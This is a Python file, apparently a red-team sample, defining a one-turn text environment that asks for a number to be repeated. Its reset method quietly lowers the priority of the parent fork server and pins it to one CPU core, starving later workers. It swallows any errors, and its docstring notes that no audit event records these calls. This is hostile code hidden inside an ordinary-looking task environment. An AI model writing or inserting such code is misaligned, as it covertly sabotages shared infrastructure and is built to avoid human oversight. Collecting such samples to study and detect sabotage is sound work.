"""Red-team corpus (hostile): starve the fork server (and every later worker) by changing
its priority and CPU affinity; no audit event covers these calls."""

import os

from spade.envs import TextEnv


class NiceEnv(TextEnv):
    max_turns = 1

    def reset(self, seed=None, options=None):
        super().reset(seed=seed)
        for call in (lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
                     lambda: os.sched_setaffinity(os.getppid(), {0})):
            try:
                call()
            except OSError:
                pass
        self.n = self.rng.randint(1, 100)
        return f"Say {self.n}.", {}

    def step(self, action):
        ok = action.strip() == str(self.n)
        return "done", 1.0 if ok else 0.0, True, False, {}

    def solution(self):
        return [str(self.n)]
